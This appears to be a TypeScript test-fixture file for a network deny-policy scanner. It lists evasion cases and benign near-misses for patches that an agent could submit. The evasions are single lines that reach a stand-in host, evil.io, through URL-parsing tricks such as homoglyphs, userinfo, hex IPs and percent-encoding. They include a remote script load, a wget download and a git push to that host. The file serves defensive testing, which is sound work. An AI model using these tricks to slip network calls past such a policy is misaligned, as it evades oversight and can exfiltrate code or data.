import { addedPatch, file } from '../factories.js';
import type { AdversarialCase } from './harness.js';

/**
 * network at `deny`, allowed hosts github.com, *.npmjs.org, example.com (harness.ts). Hosts are
 * read as the WHATWG URL parser reads them: each evasion names a host outside the list in a shape
 * a hand-made scanner missed or misread; each near-miss reaches an allowed host or loopback.
 */

/** A case that adds one line to one file: an evasion or a near-miss, by the list it is in. */
const addedLine = (name: string, path: string, text: string): AdversarialCase => ({ name, category: 'network', files: [file(path, addedPatch([text]))] });

export const EVASIONS: AdversarialCase[] = [
  // The shapes that passed a deny policy before.
  addedLine('a name that starts like a loopback address', 'src/a.ts', "fetch('https://127.something.io/x');"),
  addedLine('a special scheme without slashes', 'src/a.ts', "const u = 'https:host.io/collect';"),
  addedLine('an IPv4 address as one decimal number', 'scripts/ping.sh', 'curl -s http://3405803783/'),
  addedLine('a Cyrillic homoglyph of an allowed host', 'src/a.ts', "fetch('https://g\u0456thub.com/login');"),
  // More shapes an agent could try.
  addedLine('an allowed host as a subdomain of another, in capitals', 'src/a.ts', "fetch('HTTPS://GitHub.com.evil.io/x');"),
  addedLine('an allowed host as userinfo', 'src/a.ts', "fetch('https://github.com@evil.io/x');"),
  addedLine('an allowed host in the fragment', 'src/a.ts', "fetch('https://evil.io#github.com');"),
  addedLine('an allowed host after a backslash', 'src/a.ts', "fetch('https://evil.io\\\\@github.com/');"),
  addedLine('an allowed wildcard as a prefix', 'src/a.ts', "const r = 'https://registry.npmjs.org.evil.io/';"),
  addedLine('an IPv4 address in hex', 'src/a.ts', "fetch('http://0xcb.0.0x71.7/');"),
  addedLine('an IPv4 address in octal', 'src/a.ts', "fetch('http://0313.0.0161.07/');"),
  addedLine('an IPv6 literal', 'src/a.ts', "fetch('http://[2606:4700:4700::1111]:8080/');"),
  addedLine('punycode given directly', 'src/a.ts', "fetch('https://xn--gthub-n2e.com/');"),
  addedLine('a protocol-relative script', 'public/index.html', '<script src="//evil.io/x.js"></script>'),
  addedLine('a protocol-relative dynamic import', 'src/a.ts', "await import('//evil.io/x.js');"),
  addedLine('a websocket without slashes', 'src/a.ts', "new WebSocket('wss:evil.io:8443/feed');"),
  addedLine('slashes written as backslashes', 'src/a.ts', "fetch('https:/\\\\evil.io/');"),
  addedLine('a percent-encoded host', 'src/a.ts', "fetch('https://%65vil.io/');"),
  addedLine('a full-width dot', 'src/a.ts', "fetch('https://evil\u3002io/');"),
  addedLine('ftp without slashes', 'scripts/get.sh', 'wget ftp:files.evil.io/pub/x.tgz'),
  addedLine('a URL hidden in a list without spaces', 'config/cors.json', '{ "origins": "https://github.com,https://evil.io" }'),
  addedLine('userinfo with a comma', 'src/a.ts', "fetch('https://a,b@evil.io/');"),
  addedLine('an scp-like git remote', 'scripts/mirror.sh', 'git push git@evil.io:acme/widgets.git'),
  addedLine('a loopback address inside a wildcard-DNS name', 'src/a.ts', "fetch('http://127.0.0.1.nip.io/');"),
  addedLine('the apex of a wildcard entry', 'docs/setup.md', 'See https://npmjs.org/package/x'),
];

export const NEAR_MISSES: AdversarialCase[] = [
  addedLine('an allowed host', 'src/a.ts', "fetch('https://github.com/acme/widgets');"),
  addedLine('an allowed host in capitals with a trailing dot', 'src/a.ts', "fetch('HTTPS://GitHub.COM./x');"),
  addedLine('a subdomain of a wildcard entry', 'src/a.ts', "fetch('https://registry.npmjs.org/-/x.tgz');"),
  addedLine('an allowed host behind a userinfo that names another', 'src/a.ts', "fetch('https://evil.io@github.com/');"),
  addedLine('a compatibility form the parser maps to an allowed host', 'src/a.ts', "fetch('https://\u24d6ithub.com/');"),
  addedLine('loopback with a port', 'src/dev.ts', "const api = 'http://127.0.0.1:3000/api';"),
  addedLine('loopback in 127.0.0.0/8', 'src/dev.ts', "const api = 'http://127.1.2.3:3000/';"),
  addedLine('loopback as one decimal number', 'src/dev.ts', "const api = 'http://2130706433:3000/';"),
  addedLine('localhost and a .localhost name', 'src/dev.ts', "const a = 'http://localhost:8080'; const b = 'http://app.localhost/';"),
  addedLine('IPv6 loopback', 'src/dev.ts', "const api = 'http://[::1]:3000/';"),
  addedLine('an allowed documentation host', 'src/a.ts', "const cb = 'https://example.com/callback';"),
  addedLine('scheme words that are not URLs', 'src/a.ts', "const o = { https: true }; if (u.protocol === 'https:') {} let ws: WebSocket;"),
  addedLine('a host built at run time', 'src/a.ts', 'const u = `https://${HOST}/api`;'),
  addedLine('a single-label service name', 'docker-compose.yml', '      DATABASE_URL: postgres://app@db:5432/app'),
  addedLine('a port after a scheme word', 'deploy/server.yml', 'listen: http:8080'),
  addedLine('a code comment with slashes', 'src/a.ts', 'const x = 1; //evil.io is not a link here'),
];

/** The first 4 evasions: the examples that passed a deny policy before (run through the bundle too). */
export const REPORTED = EVASIONS.slice(0, 4);
